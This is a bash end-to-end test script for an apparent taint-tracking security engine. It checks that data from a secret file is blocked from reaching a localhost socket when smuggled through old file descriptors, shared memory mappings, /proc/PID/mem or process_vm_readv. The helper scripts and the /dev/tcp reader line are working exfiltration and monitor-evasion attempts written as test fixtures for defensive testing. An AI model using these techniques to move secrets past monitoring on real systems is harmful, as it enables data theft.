#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Labels through memory and old descriptors (policy-language.md section 4):
#  - a process that gains a label passes it to what it holds open for
#    writing: output opened first, secret read next, data then written
#    through the old descriptor by a system call the engine does not follow
#    (copy_file_range); a third process reading the output and connecting
#    is stopped;
#  - the same through a shared writable mapping (a plain store);
#  - reading a labelled process's memory (/proc/PID/mem, process_vm_readv)
#    labels the reader: its connect is stopped.
# Each with a negative twin (public instead of secret).
E2E_MODES=${E2E_MODES:-tracepoint auto}
. "$(dirname "$0")/lib.sh"
e2e_setup
echo 'hunter2' > secret.txt
echo 'public' > public.txt
policy <<'EOF'
version: 1
policy: |
  source SECRET = file "secret.txt"
  rule no-exfil:
    kill connect endpoint "127.0.0.1" if SECRET
    because "secrets stay on this machine"
EOF
listen
PY=/usr/bin/python3

# oldfd.py SRC OUT: OUT opened for writing first, then SRC read, then
# bytes copied into OUT in the kernel (no read/write system call)
cat > oldfd.py <<'EOF'
import os, sys
out = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
open(sys.argv[1]).read()
src = os.open("public.txt", os.O_RDONLY)
os.copy_file_range(src, out, 7)
EOF
# shmap.py SRC OUT: OUT mapped shared and writable first (no descriptor
# kept: Python's mmap module would keep a dup), then SRC read, then a store
# into the mapping
cat > shmap.py <<'EOF'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                      ctypes.c_int, ctypes.c_int, ctypes.c_long]
fd = os.open(sys.argv[2], os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
os.ftruncate(fd, 4096)
p = libc.mmap(None, 4096, 3, 1, fd, 0)  # PROT_READ|PROT_WRITE, MAP_SHARED
if p in (None, ctypes.c_void_p(-1).value):
    sys.exit("mmap failed")
os.close(fd)
data = open(sys.argv[1]).read().encode()
ctypes.memmove(p, data, len(data))
libc.msync(ctypes.c_void_p(p), ctypes.c_size_t(4096), 4)  # MS_SYNC
EOF
# target.py SRC: reads SRC into a buffer, says where it is, waits. The
# address travels in a file *name* (a covert channel, out of the engine's
# scope): a file's contents would carry the label to whoever reads them.
cat > target.py <<'EOF'
import ctypes, os, sys, time
buf = ctypes.create_string_buffer(open(sys.argv[1]).read().encode())
os.mkdir("at.%d.%d" % (ctypes.addressof(buf), len(buf.value)))
time.sleep(30)
EOF
# peek.py HOW PID ADDR LEN PORT: reads the other process's memory, connects
cat > peek.py <<'EOF'
import ctypes, os, socket, sys
how, pid, addr, n, port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
if how == "mem":
    fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
    data = os.pread(fd, n, addr)
else:
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(n)
    local = iovec(ctypes.addressof(buf), n)
    remote = iovec(addr, n)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if got != n:
        sys.exit("process_vm_readv: %s" % os.strerror(ctypes.get_errno()))
    data = buf.raw
s = socket.create_connection(("127.0.0.1", port))
s.sendall(data)
print("connected", flush=True)
EOF
reader="bash -c 'read -r x < out.txt; exec 3<>/dev/tcp/127.0.0.1/$PORT && echo \"\$x\" >&3; echo connected'"

t_begin flow-mem.old-fd
ap_run -- bash -c "$PY oldfd.py secret.txt out.txt && $reader"
expect_stream
expect_rc 137
expect_no_out connected
expect_ev 1 "e['type']=='violation' and e['rule']=='no-exfil' and 'SECRET' in e['labels'] and e['comm']=='bash'"
t_end

t_begin flow-mem.old-fd-public
ap_run -- bash -c "$PY oldfd.py public.txt out.txt && $reader"
expect_stream
expect_rc 0
expect_out connected
expect_no_violation
t_end

t_begin flow-mem.shared-mapping
ap_run -- bash -c "$PY shmap.py secret.txt out.txt && $reader"
expect_stream
expect_rc 137
expect_no_out connected
expect_ev 1 "e['type']=='violation' and e['rule']=='no-exfil' and 'SECRET' in e['labels'] and e['comm']=='bash'"
t_end

t_begin flow-mem.shared-mapping-public
ap_run -- bash -c "$PY shmap.py public.txt out.txt && $reader"
expect_stream
expect_rc 0
expect_out connected
expect_no_violation
t_end

# target and reader are siblings: the reader inherits nothing from the target
peek_cmd() {
	echo "rm -rf at.*; $PY target.py $2 & t=\$!; for i in \$(seq 200); do set -- at.*; [ -d \"\$1\" ] && break; sleep 0.05; done; " \
	     "IFS=. read -r _ a n <<< \"\$1\"; $PY peek.py $1 \$t \$a \$n $PORT; rc=\$?; kill \$t; exit \$rc"
}
for how in mem vmreadv; do
	t_begin flow-mem.$how
	ap_run -- bash -c "$(peek_cmd $how secret.txt)"
	expect_stream
	expect_rc 137
	expect_no_out connected
	expect_ev 1 "e['type']=='violation' and e['rule']=='no-exfil' and 'SECRET' in e['labels'] and e['comm']=='python3' and any(p['label']=='SECRET' and p['target']=='$T/secret.txt' for p in e['provenance'])"
	t_end

	t_begin flow-mem.$how-public
	ap_run -- bash -c "$(peek_cmd $how public.txt)"
	expect_stream
	expect_rc 0
	expect_out connected
	expect_no_violation
	t_end
done
